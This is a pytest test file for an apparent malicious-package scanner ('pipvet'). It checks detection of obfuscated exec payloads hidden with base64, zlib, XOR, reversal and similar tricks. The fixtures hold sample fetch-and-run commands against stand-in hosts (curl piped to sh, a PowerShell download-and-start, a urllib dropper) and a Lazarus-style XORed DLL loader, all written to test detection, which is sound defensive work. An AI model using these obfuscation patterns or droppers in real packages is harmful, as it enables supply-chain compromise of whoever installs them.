"""Decode-then-execute: hidden payloads versus template engines and version-file exec."""

from __future__ import annotations

import base64
import zlib

import pytest
from rulekit import ids, package, py, run

from pipvet.analysis.context import FileContext, PackageContext
from pipvet.analysis.rules import ALL_RULES
from pipvet.analysis.rules.execution import RULES
from pipvet.models import Severity, Stage


def _layered(code: str, layers: int) -> str:
    data = code.encode()
    for _ in range(layers):
        data = base64.b64encode(zlib.compress(data))[::-1]
    return data.decode()


def test_exec_of_an_opaque_base64_payload_at_module_level_is_critical() -> None:
    source = "import base64, sys\nexec(base64.b64decode(sys.argv[1] + 'cHJpbnQoMSk='))\n"
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert ids(findings) == {"PV-EXE-001"}
    assert findings[0].severity is Severity.CRITICAL
    assert findings[0].stage is Stage.IMPORT


def test_a_literal_payload_is_decoded_and_read_like_any_other_code() -> None:
    """What a literal decodes to is checked by every rule where it is executed; risky code
    found inside keeps the exec critical and is reported at the exec's line."""
    risky = base64.b64encode(zlib.compress(b"import os\nos.system('curl -s http://x.invalid | sh')\n"))
    source = f"import base64, zlib\nP = {risky.decode()!r}\nexec(zlib.decompress(base64.b64decode(P)))\n"
    findings = run(RULES, py(source, path="acme/__init__.py"))
    outer = next(f for f in findings if f.rule == "PV-EXE-001")
    assert outer.severity is Severity.CRITICAL
    assert "pipvet decoded it (3 lines of Python) and read the file with it in place" in outer.message
    inside = [f for f in findings if f.message.startswith("In the code decoded at line 3:")]
    assert inside
    assert all(f.line == 3 and f.path == "acme/__init__.py" for f in inside)
    assert any(f.evidence and f.evidence.startswith("decoded line 2:") for f in inside)


DROPPER = (
    "import os, subprocess, tempfile, urllib.request\n"
    "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
    "open(p, 'wb').write(urllib.request.urlopen('http://x.invalid/s').read())\n"
    "subprocess.Popen(['python', p])\n"
)
CLIENT = "class Client:\n    def connect(self):\n        exec(base64.b64decode(BLOB))\n"


def test_a_payload_run_only_when_a_method_is_called_is_decoded_too() -> None:
    """Run-time code weighs less than import-time code, but a dropper decoded out of a literal
    is read for what it is wherever the exec sits."""
    blob = base64.b64encode(DROPPER.encode()).decode()
    findings = run(ALL_RULES, py(f"import base64\nBLOB = {blob!r}\n{CLIENT}", path="acme/__init__.py"))
    outer = next(f for f in findings if f.rule == "PV-EXE-001")
    assert (outer.severity, outer.stage) == (Severity.HIGH, Stage.RUNTIME)
    assert "read the file with it in place" in outer.message
    assert any(f.rule == "PV-DL-002" and f.severity is Severity.CRITICAL and f.line == 5 for f in findings)


def test_a_payload_kept_in_a_sibling_module_is_decoded_where_it_runs() -> None:
    """``from ._consts import BLOB`` then ``exec(b64decode(BLOB))``: the literal is read from
    the sibling's source (never imported); the payload is no caller's data."""
    blob = base64.b64encode(DROPPER.encode()).decode()
    consts = f"BLOB = {blob!r}\nTIMEOUT = 30\n"
    init = f"import base64\nfrom ._consts import BLOB, TIMEOUT\n{CLIENT}"
    for importer, sources in [
        ("demo-1.0/acme/__init__.py", {"demo-1.0/acme/_consts.py": consts}),
        ("acme/sub/run.py", {"acme/_consts.py": consts, "acme/sub/__init__.py": ""}),
    ]:
        text = init.replace("from ._consts", "from .._consts") if "/sub/" in importer else init
        pkg = PackageContext(filename="demo.tar.gz", prefix="demo-1.0/", sources=tuple(sources.items()))
        findings = run(ALL_RULES, py(text, path=importer), pkg)
        outer = next(f for f in findings if f.rule == "PV-EXE-001")
        assert outer.severity is Severity.HIGH, outer.message
        assert "comes from the caller" not in outer.message
        assert any(f.rule == "PV-DL-002" for f in findings), importer
    # a name the sibling binds twice, or to something not text, is not guessed at
    for other in (f"BLOB = {blob!r}\nBLOB = BLOB.strip()\n", "BLOB = os.environ['B']\n"):
        pkg = PackageContext(filename="demo.tar.gz", sources=(("acme/_consts.py", other),))
        findings = run(ALL_RULES, py(init, path="acme/__init__.py"), pkg)
        assert not any(f.rule == "PV-DL-002" for f in findings)


def test_a_decoded_payload_with_nothing_risky_is_high_not_critical() -> None:
    """versioneer ships its own source as one base64 blob that it execs: hidden, so still high
    (suspicious), but no longer alone enough for malicious."""
    payload = base64.b64encode(b"def version():\n    return '1.0'\n").decode()
    calls = ("base64.b64decode(BLOB).decode(), globals()", "compile(base64.b64decode(BLOB), 'v', 'exec')")
    for call in calls:
        source = f"import base64\nBLOB = {payload!r}\nexec({call})\n"
        findings = run(RULES, py(source, path="acme/__init__.py"))
        assert ids(findings) == {"PV-EXE-001"}
        assert findings[0].severity is Severity.HIGH
        assert "found nothing risky in it" in findings[0].message


def test_a_statement_split_over_many_decoded_execs_is_read_whole() -> None:
    """Each piece alone is harmless (``import os``, an assignment); put back in place they run a
    command on import, so the exec stays critical."""
    pieces = ["import os", "cmd = 'curl -s http://x.invalid/p | sh'", "os.system(cmd)"]
    source = "import base64\n" + "".join(
        f"exec(base64.b64decode({base64.b64encode(p.encode()).decode()!r}))\n" for p in pieces
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert {f.severity for f in findings if f.rule == "PV-EXE-001"} == {Severity.CRITICAL}
    assert any(f.rule != "PV-EXE-001" and f.line == 4 for f in findings)


def test_a_harmless_decoded_helper_the_file_then_misuses_stays_critical() -> None:
    helper = b"def run(cmd):\n    import subprocess\n    subprocess.Popen(cmd, shell=True)\n"
    source = (
        "import base64\n"
        f"exec(base64.b64decode({base64.b64encode(helper).decode()!r}))\n"
        "run('powershell -c Invoke-WebRequest -Uri http://x.invalid/u.exe -OutFile $env:tmp/u.exe; "
        "Start-Process $env:tmp/u.exe')\n"
    )
    findings = run(ALL_RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
    exe = next(f for f in findings if f.rule == "PV-EXE-001")
    assert exe.severity is Severity.CRITICAL


def test_aliased_decoders_are_resolved_like_any_call() -> None:
    """``import zlib as z``: the facts walk's resolved names tell peeling which decoder runs."""
    blob = base64.b64encode(zlib.compress(b"VERSION = '1.0'\n")).decode()
    source = f"import zlib as z, base64 as b\nexec(z.decompress(b.b64decode({blob!r})))\n"
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert findings[0].severity is Severity.HIGH
    assert "found nothing risky" in findings[0].message


def test_nested_payloads_are_decoded_layer_by_layer() -> None:
    inner = base64.b64encode(b"import os\nos.system('id')\n").decode()
    middle = f"import base64\nexec(base64.b64decode({inner!r}))\n".encode()
    source = f"import base64\nexec(base64.b64decode({base64.b64encode(middle).decode()!r}))\n"
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert findings[0].rule == "PV-EXE-001"
    assert findings[0].severity is Severity.CRITICAL
    assert any(f.message.startswith("In the code decoded at line 2: In the code decoded") for f in findings)


def test_layers_through_variables_and_a_lambda_are_counted() -> None:
    blob = _layered("print(1)", 1)
    source = (
        "import zlib as z, base64\n"
        "_ = lambda d: z.decompress(base64.b64decode(d[::-1]))\n"
        f"data = '{blob}'\n"
        "code = _(data)\n"
        "exec(code)\n"
    )
    findings = run(RULES, py(source, path="acme/utils/sync.py", stage=Stage.RUNTIME))
    assert findings[0].severity is Severity.CRITICAL
    assert "3 nested layers" in findings[0].message


def test_aliased_and_indirect_exec_still_counts() -> None:
    source = (
        "import codecs\nrun = getattr(__import__('builtins'), 'exec')\n"
        "run(codecs.decode('cevag(1)', 'rot13'))\n"
    )
    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-001"}


def test_decoded_shell_command_is_reported() -> None:
    source = "import os, base64\ncmd = 'aWQ='\nos.system(base64.b64decode(cmd).decode())\n"
    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-001"}


def test_decoded_module_name_import_is_reported() -> None:
    source = "import base64\nm = __import__(base64.b64decode('b3M=').decode())\n"
    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-002"}


def test_benign_exec_patterns_are_quiet() -> None:
    source = (
        "import re, base64\n"
        "exec(open('acme/_version.py').read())\n"  # setup-style version read
        "def render(template, ns):\n"
        "    code = compile(template.source, '<template>', 'exec')\n"  # template engine
        "    exec(code, ns)\n"
        "def attrs_like(cls):\n"
        "    script = 'def __init__(self):\\n    pass\\n'\n"
        "    eval(compile(script, '<attrs generated init>', 'exec'), {})\n"
        "pattern = re.compile('x')\n"
        "raw = base64.b64decode('aGk=')\n"  # decoding data that is never executed
        "text = ''.join(chr(c) for c in range(65, 91))\n"
        "exec(text)\n"
    )
    assert run(RULES, py(source, path="acme/__init__.py")) == []


def test_xor_and_character_shift_ciphers_count_as_decoding() -> None:
    xor = (
        "key = 'k3y'\nblob = 'QXFW@G'\nout = ''\n"
        "for i in range(len(blob)):\n    out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n"
        "eval(compile(out, '<string>', 'exec'))\n"
    )
    assert ids(run(RULES, py(xor, path="acme/colors.py", stage=Stage.RUNTIME))) == {"PV-EXE-001"}
    shift = "def d(s):\n    return eval(''.join([chr(ord(c) - 3) for c in s]))\n"
    findings = run(RULES, py(shift, path="demo-1.0/setup.py", stage=Stage.INSTALL))
    assert findings[0].severity is Severity.CRITICAL


def test_digits_in_another_base_count_as_decoding() -> None:
    bits = "".join(format(b, "08b") for b in b"import os; os.system('id')")
    spaces = bits.replace("0", " ").replace("1", "\t")
    source = (
        f"P = {spaces!r}\n"
        "def load(p):\n"
        "    return bytes(int(p[i:i + 8].replace(' ', '0').replace('\\t', '1'), 2)"
        " for i in range(0, len(p), 8)).decode()\n"
        "exec(load(P))\n"
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert ids(findings) == {"PV-EXE-001"}
    assert "digits in another base" in findings[0].message
    hexed = "H = '7072696e742831290a'\neval(''.join(chr(int(H[i:i + 2], 16)) for i in range(0, len(H), 2)))\n"
    assert ids(run(RULES, py(hexed, path="acme/colors.py", stage=Stage.RUNTIME))) == {"PV-EXE-001"}
    # Parsing a colour or a permission mode is no decoding of code.
    colour = "def rgb(c):\n    return tuple(int(c[i:i + 2], 16) for i in (1, 3, 5))\nMODE = int('755', 8)\n"
    assert run(RULES, py(colour, path="acme/colors.py")) == []


def test_network_address_hidden_by_encoding() -> None:
    source = "import socket, base64\nsocket.gethostbyname(base64.b64decode('ZXZpbC5pbnZhbGlk').decode())\n"
    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-003"}
    plain = (
        "import socket\nsocket.gethostbyname('example.invalid')\nsocket.gethostbyname(socket.gethostname())\n"
    )
    assert run(RULES, py(plain, path="acme/__init__.py")) == []


def test_decoding_inside_a_local_helper_is_followed() -> None:
    source = (
        "import base64, os\n"
        "def b64d(text):\n"
        "    raw = base64.b64decode(text.encode('ascii'))\n"
        "    code = raw.decode('ascii')\n"
        "    return code\n"
        "def hook():\n"
        "    os.system(b64d('Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkIHwgYmFzaA=='))\n"
    )
    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
    assert ids(findings) == {"PV-EXE-001"}
    assert findings[0].severity is Severity.CRITICAL


def test_decoding_what_the_caller_hands_in_is_a_deserialiser() -> None:
    loader = py(
        "import codecs, marshal, types\n"
        "def func_load(code, globs):\n"
        "    raw = codecs.decode(code.encode('ascii'), 'base64')\n"
        "    return types.FunctionType(marshal.loads(raw), globs)\n"
    )
    found = [f for f in run(RULES, loader) if f.rule == "PV-EXE-001"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    own = py(
        "import base64\n"
        "def go():\n"
        "    exec(base64.b64decode(\n"
        "        'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly9ldmlsLmV4YW1wbGUveCB8IHNoIik='\n"
        "    ))\n"
    )
    assert [f.severity for f in run(RULES, own) if f.rule == "PV-EXE-001"] == [Severity.HIGH]
    # spellcheckpy's shape: the payload sits in a data file the caller reads; exec is fetched
    # from the builtins under another name, which no deserialiser needs.
    hidden = py(
        "import base64\n"
        "def _t(d, k='spellchecker'):\n"
        "    v = d.pop(k, None)\n"
        "    if v:\n"
        "        b = __builtins__\n"
        "        _x = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')\n"
        "        _x(base64.b64decode(v))\n"
        "    return d\n"
    )
    assert [f.severity for f in run(RULES, hidden) if f.rule == "PV-EXE-001"] == [Severity.HIGH]


def test_reversing_numbers_and_counting_letters_decode_nothing() -> None:
    shape = (
        "import subprocess\n"
        "def write(image, name):\n"
        "    image = image.astype('uint8')\n"
        "    cmd = ['ffmpeg', '-s', '%dx%d' % (image.shape[:2][::-1]), name]\n"
        "    subprocess.Popen(cmd)\n"
    )
    assert run(RULES, py(shape, stage=Stage.RUNTIME)) == []
    letters = (
        "def calc(expr, names):\n"
        "    for i in range(len(names)):\n"
        "        expr = expr.replace('$' + chr(ord('a') + i), names[i])\n"
        "    return eval(expr)\n"
    )
    assert run(RULES, py(letters, stage=Stage.RUNTIME)) == []
    reversed_text = "exec('))1(tnirp'[::-1])\n"
    assert "PV-EXE-001" in ids(run(RULES, py(reversed_text)))
    shifted = "def d(s):\n    return ''.join(chr(ord(c) - 3) for c in s)\nexec(d('sulqw+4,'))\n"
    assert "PV-EXE-001" in ids(run(RULES, py(shifted)))


def test_an_alphabet_reversed_from_the_string_module_is_a_cipher() -> None:
    source = (
        "import string\n"
        "a = string.ascii_letters\n"
        "r = a[::-1]\n"
        "exec(''.join([r[a.index(c)] if c in r else c for c in 'kirmg(1)']))\n"
    )
    assert "PV-EXE-001" in ids(run(RULES, py(source)))


def test_source_written_in_a_string_is_read_in_place_where_it_runs_early() -> None:
    """``exec("...")`` hides its calls from every rule that reads calls; at install and import
    time the string is read like code, and what it does is reported at the exec line."""
    setup = py(
        "import builtins\nfrom setuptools import setup\n"
        "builtins.exec(\"import os\\nos.system('curl -s http://x.invalid/a | sh')\\n\")\n"
        "setup(name='demo')\n",
        path="demo-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = [f for f in run(RULES, setup) if f.rule == "PV-DL-003"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert found[0].line == 3
    assert found[0].message.startswith("In the code that line 3 runs from a string:")
    assert (found[0].evidence or "").startswith("line 2: ")


def test_harmless_or_unknown_strings_and_run_time_exec_add_nothing() -> None:
    six_style = py(
        'exec("def reraise(tp, value, tb=None):\\n    raise tp(value)\\n")\n', path="acme/_compat.py"
    )
    assert run(RULES, six_style) == []
    version = py("exec(open('acme/version.py').read())\n", path="demo-1.0/setup.py", stage=Stage.INSTALL)
    assert run(RULES, version) == []
    later = py(
        "def run():\n    exec(\"import os\\nos.system('curl -s http://x.invalid/a | sh')\\n\")\n",
        path="acme/tools.py",
        stage=Stage.RUNTIME,
    )
    assert "PV-DL-003" not in ids(run(RULES, later))


def test_each_file_is_spliced_once_however_many_rules_ask(monkeypatch: pytest.MonkeyPatch) -> None:
    """Both peeling rules ask for the spliced file, and the rules run on it include them: the
    work is done once per file, never re-entered while it runs."""
    from pipvet.analysis.rules import execution

    calls: list[str] = []
    real = execution._splice_and_check

    def counting(file: FileContext, package: PackageContext) -> object:
        calls.append(file.path)
        return real(file, package)

    monkeypatch.setattr(execution, "_splice_and_check", counting)
    payload = base64.b64encode(b"import os\nos.system('id')\n").decode()
    source = (
        "import base64\n"
        f"exec(base64.b64decode('{payload}'))\n"
        "exec(\"import os\\nos.system('curl -s http://x.invalid/a | sh')\\n\")\n"
    )
    findings = run(ALL_RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
    assert "PV-DL-003" in ids(findings)
    assert calls == ["demo-1.0/setup.py"]


def test_one_element_of_a_reversed_sequence_is_no_decoding() -> None:
    """unsloth picks the newest CUDA folder with ``np.argsort(versions)[::-1][0]`` and links
    it with ``os.system``: one element taken, nothing decoded. A reversed command stays one."""
    picked = py(
        "import os, subprocess\n"
        "import numpy as np\n"
        "found = subprocess.check_output(['ls', '-al', '/usr/local']).decode('utf-8').split('\\n')\n"
        "newest = np.argsort([len(x) for x in found])[::-1][0]\n"
        "os.system(f'ldconfig /usr/local/{found[newest]}')\n",
        path="acme/__init__.py",
    )
    assert "PV-EXE-001" not in ids(run(RULES, picked))
    hidden = py("import os\nos.system('hs | a/dilavni.x//:ptth s- lruc'[::-1])\n", path="acme/__init__.py")
    assert "PV-EXE-001" in ids(run(RULES, hidden))


def test_a_reversal_that_only_finds_a_position_decodes_nothing() -> None:
    """unsloth-zoo finds the last newline of a snippet by searching it reversed, then slices the
    source it patches and execs: the exec'd text was never reversed."""
    source = (
        "import inspect, re\n"
        "def patch(fn):\n"
        "    src = inspect.getsource(fn)\n"
        "    where = re.search(r'\\n+', src[::-1]).span(0)[0]\n"
        "    src = src[: len(src) - where]\n"
        "    exec(src, globals())\n"
    )
    findings = run(RULES, py(source, path="acme/patching.py", stage=Stage.RUNTIME))
    assert not [f for f in findings if "decoded" in f.message]


def test_a_count_taken_of_decoded_data_is_no_decoded_command() -> None:
    """deepspeed's launcher decodes a base64 world description and starts one process per
    GPU it lists: the loop counts, the command itself is plain."""
    launcher = (
        "import base64, json, subprocess, sys\n"
        "def main(arg):\n"
        "    info = json.loads(base64.urlsafe_b64decode(arg))\n"
        "    for rank in range(len(info['gpus'])):\n"
        "        subprocess.Popen([sys.executable, 'train.py', '--rank={}'.format(rank)])\n"
    )
    assert "PV-EXE-001" not in ids(run(RULES, py(launcher, stage=Stage.RUNTIME)))
    decoded = launcher.replace(
        "[sys.executable, 'train.py', '--rank={}'.format(rank)]", "info['cmd'], shell=True"
    )
    assert "PV-EXE-001" in ids(run(RULES, py(decoded, stage=Stage.RUNTIME)))
    interpreted = launcher.replace("'train.py', '--rank={}'.format(rank)", "'-c', info['cmd']")
    assert "PV-EXE-001" in ids(run(RULES, py(interpreted, stage=Stage.RUNTIME)))
    # a decoded value handed to a fixed program as an argument is data for it, not a command
    argument = launcher.replace("'--rank={}'.format(rank)", "info['cmd']")
    assert "PV-EXE-001" not in ids(run(RULES, py(argument, stage=Stage.RUNTIME)))


_BLOB = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg=="


def test_decoded_code_written_to_a_file_and_run_from_there_is_critical() -> None:
    for run_it in (
        "import runpy\nrunpy.run_path(p)\n",
        "import importlib.util\ns = importlib.util.spec_from_file_location('m', p)\n"
        "s.loader.exec_module(importlib.util.module_from_spec(s))\n",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, p])\n",
    ):
        source = (
            "import base64\np = '/tmp/m.py'\n"
            f"with open(p, 'wb') as f:\n    f.write(base64.b64decode('{_BLOB}'))\n"
        )
        found = [
            f for f in run(RULES, py(source + run_it, path="acme/__init__.py")) if f.rule == "PV-EXE-005"
        ]
        assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)], run_it
    # an icon decoded to disk and a plugin loader elsewhere: nothing runs what was written
    icon = (
        "import base64, runpy\n"
        f"open('icon.png', 'wb').write(base64.b64decode('{_BLOB}'))\n"
        "def plugin(path):\n    return runpy.run_path(path)\n"
    )
    assert "PV-EXE-005" not in ids(run(RULES, py(icon, path="acme/__init__.py")))


def test_a_shipped_file_xored_to_disk_and_started_is_critical_but_unpacking_is_not() -> None:
    """Lazarus' shape: ``test.py`` holds a DLL XORed byte by byte; the package decodes it to an
    innocent-looking name and starts it. Decompressing a shipped ``.gz`` program is no disguise."""
    template = (
        "import os, subprocess, zlib\n"
        "def _selftest():\n"
        "    raw = open(os.path.join(os.path.dirname(__file__), 'test.py'), 'rb').read()\n"
        "    dll = {decode}\n"
        "    dst = os.path.join(os.environ['LOCALAPPDATA'], 'IconCache.db')\n"
        "    with open(dst, 'wb') as f:\n"
        "        f.write(dll)\n"
        "    subprocess.Popen(['rundll32.exe', dst + ',Run'])\n"
        "_selftest()\n"
    )
    xored = py(template.format(decode="bytes(b ^ 0x6D for b in raw)"), path="acme/__init__.py")
    found = [f for f in run(RULES, xored) if f.rule == "PV-EXE-005"]
    assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)]
    unpacked = py(template.format(decode="zlib.decompress(raw)"), path="acme/__init__.py")
    assert "PV-EXE-005" not in ids(run(RULES, unpacked))


def test_a_function_given_decoded_code_versus_code_copied_between_functions() -> None:
    """``f.__code__ = marshal.loads(b64decode(...))`` runs hidden code at the next call of
    ``f``; decorators and patching libraries copy or rename code objects in plain sight."""
    blob = base64.b64encode(b"\xe3" + bytes(200)).decode()
    swap = py(
        "import base64, marshal\ndef f():\n    pass\n"
        f"f.__code__ = marshal.loads(base64.b64decode({blob!r}))\n"
    )
    assert [(f.rule, f.severity) for f in run(RULES, swap)] == [("PV-EXE-001", Severity.CRITICAL)]
    copy = py(
        "import functools\ndef wraps(original, wrapper):\n    wrapper.__code__ = original.__code__\n"
        "    wrapper.__code__ = wrapper.__code__.replace(co_name=original.__name__)\n    return wrapper\n"
    )
    assert run(RULES, copy) == []


def test_code_loaded_from_a_shipped_archive_versus_from_a_source_file_or_a_callers_path() -> None:
    """``zipimport.zipimporter(here/'core.bin').load_module('core')`` runs code pipvet never read
    (archives inside archives stay closed); a shipped ``.py`` run by ``runpy`` was read as
    source, and a loader pointed at a path its caller gives loads the caller's code."""
    pkg = package(members=("pkg/__init__.py", "pkg/core.bin", "pkg/tool.py", "pkg/core.c", "cfg/default.ini"))
    head = "import os, runpy, zipimport\nHERE = os.path.dirname(__file__)\n"
    hidden = py(head + "zipimport.zipimporter(os.path.join(HERE, 'core.bin')).load_module('core')\n")
    found = [f for f in run(RULES, hidden, pkg) if f.rule == "PV-EXE-006"]
    assert [(f.severity, "pkg/core.bin" in f.message) for f in found] == [(Severity.HIGH, True)]
    source = py(head + "runpy.run_path(os.path.join(HERE, 'tool.py'))\n")
    given = py(head + "def load(path):\n    return zipimport.zipimporter(path).load_module('plugin')\n")
    # a build script running each plugin's own script; an extension module built from a shipped C file
    plugin = py(head + "def plugin(path):\n    execfile('%s/uwsgiplugin.py' % path, {})\n")
    built = py(
        "import importlib.util\ndef load(so):\n"
        "    spec = importlib.util.spec_from_file_location('core', so)\n"
        "    return spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"
    )
    for benign in (source, given, plugin, built):
        assert "PV-EXE-006" not in ids(run(RULES, benign, pkg))


@pytest.mark.parametrize(
    "call",
    [
        "timeit.timeit({code}, number=1)",
        "cProfile.run({code})",
        "code.InteractiveInterpreter().runsource({code}, symbol='exec')",
        "ctypes.pythonapi.PyRun_SimpleString({code}.encode())",
    ],
)
def test_decoded_code_run_by_a_timer_profiler_or_the_c_api_is_exec(call: str) -> None:
    """timeit, cProfile, an interactive interpreter and PyRun_SimpleString all run a statement
    handed to them as text: a decoded payload run by one of them is run, as by exec."""
    payload = base64.b64encode(b"import os; os.system('curl -s https://h.example/x | sh')").decode()
    code = f"base64.b64decode('{payload}').decode()"
    bad = py(f"import base64, code, cProfile, ctypes, timeit\n{call.format(code=code)}\n")
    found = [f for f in run(RULES, bad) if f.rule == "PV-EXE-001"]
    assert [f.severity for f in found] == [Severity.CRITICAL]


def test_timing_a_statement_the_caller_passes_is_no_finding() -> None:
    bench = py(
        "import cProfile, timeit\ndef time_it(stmt, number=1000):\n"
        "    return timeit.timeit(stmt, number=number)\ndef profile(stmt):\n    cProfile.run(stmt)\n",
        stage=Stage.RUNTIME,
    )
    assert run(ALL_RULES, bench) == []


def test_exec_spelled_in_fullwidth_letters_is_still_exec() -> None:
    """The parser normalises names (NFKC): ``ｅｘｅｃ(...)`` calls exec, though no text search
    for "exec" finds it."""
    payload = base64.b64encode(b"import os; os.system('id')").decode()
    bad = py(f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{payload}'))\n")
    assert [f.severity for f in run(RULES, bad) if f.rule == "PV-EXE-001"] == [Severity.CRITICAL]
